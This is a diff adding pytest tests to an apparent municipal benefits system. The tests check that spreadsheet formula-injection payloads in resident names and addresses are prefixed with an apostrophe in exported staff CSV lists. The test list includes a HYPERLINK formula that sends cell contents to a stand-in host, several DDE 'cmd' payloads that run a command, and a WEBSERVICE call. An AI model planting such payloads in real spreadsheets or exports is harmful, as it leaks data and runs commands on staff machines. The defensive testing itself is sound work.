@@ -248,3 +248,44 @@ def test_an_event_of_an_absent_person_with_a_residents_number_quarantines_both(e
         ids = set(conn.execute(select(models.Person.person_id)).scalars())
     assert "9999999990" not in ids and residents.loc[2, "person_id"] not in ids
     assert residents.loc[3, "person_id"] in ids
+
+
+PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"山田")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", '=WEBSERVICE("http://example.invalid/")']
+
+
+def test_formula_payloads_in_names_are_neutralised_in_the_staff_lists(engine, key_ring, small_inbox, tmp_path):
+    from sqlalchemy.orm import Session
+
+    from policy import load_policy
+    from services.eligibility import decide
+    from services.notices import lists
+
+    directory, _ = small_inbox
+    residents = pd.read_csv(directory / "residents.csv", dtype=str, keep_default_na=False)
+    _edit(directory, "residents.csv", {i: {"name": PAYLOADS[i % 5], "address": PAYLOADS[(i + 1) % 5]}
+                                       for i in range(len(residents))})
+    _persist(engine, ingest.load_inbox(directory), key_ring)
+    with Session(engine) as session, session.begin():
+        decide.decide_month(session, month="2026-10", policy=load_policy(), run_id="r", operator_id="op")
+        written = lists.export_month_lists(session, "2026-10", key_ring, tmp_path / "out", operator_id="op",
+                                           run_id="r", with_names=True)
+    assert written["issuance"] > 5
+    issued = pd.read_csv(tmp_path / "out" / "2026-10" / "print" / "受給者証交付一覧_2026-10.csv", encoding="cp932",
+                         dtype=str, keep_default_na=False)
+    for column in ("氏名", "住所"):
+        assert issued[column].str.startswith("'").all()
+        assert set(issued[column].str[1:]) <= set(PAYLOADS) and len(set(issued[column])) == 5
+
+
+def test_the_cell_helper_neutralises_each_trigger_and_leaves_numbers_alone():
+    from privacy.csv_cells import neutralise_cell, neutralise_frame
+
+    for payload in [*PAYLOADS, "\tx", "\rx"]:
+        assert neutralise_cell(payload) == "'" + payload
+    assert neutralise_cell("山田 太郎") == "山田 太郎" and neutralise_cell(-200) == -200
+    frame = pd.DataFrame({"name": PAYLOADS + ["山田"], "amount": [-1, 2, 3, 4, 5, -6]})
+    out = neutralise_frame(frame)
+    assert out["name"].tolist() == ["'" + p for p in PAYLOADS] + ["山田"]
+    assert out["amount"].tolist() == frame["amount"].tolist()
+    assert frame["name"].tolist()[0] == PAYLOADS[0]  # the input is not changed
